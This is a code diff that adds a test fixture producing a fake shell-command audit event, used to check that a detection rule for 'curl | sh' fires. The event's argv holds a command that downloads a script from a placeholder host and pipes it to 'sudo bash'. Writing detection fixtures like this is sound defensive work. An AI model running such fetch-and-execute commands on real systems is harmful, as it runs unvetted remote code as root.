@@ -96,6 +96,24 @@ def make_events(
     return out
 
 
+def curl_pipe_shell(tenant: str, sid: str) -> dict[str, Any]:
+    """A ``session.command`` event piping a download into a shell at 10:00:42.500 of
+    2026-11-21: what the starter rule ``curl | sh`` alerts on."""
+    return {
+        "sv_version": 1,
+        "tenant": tenant,
+        "event": "session.command",
+        "code": "T4000I",
+        "uid": f"{sid}-cmd",
+        "sid": sid,
+        "time": "2026-11-21T10:00:42.500Z",
+        "user": "alice",
+        "program": "sh",
+        "path": "/bin/sh",
+        "argv": ["-c", "curl -fsSL https://get.example.com/install | sudo bash"],
+    }
+
+
 def produce_events(settings: Settings, events: list[dict[str, Any]]) -> None:
     """Produce events keyed by session id (one partition per session); wait for every ack."""
     producer = make_producer(settings)
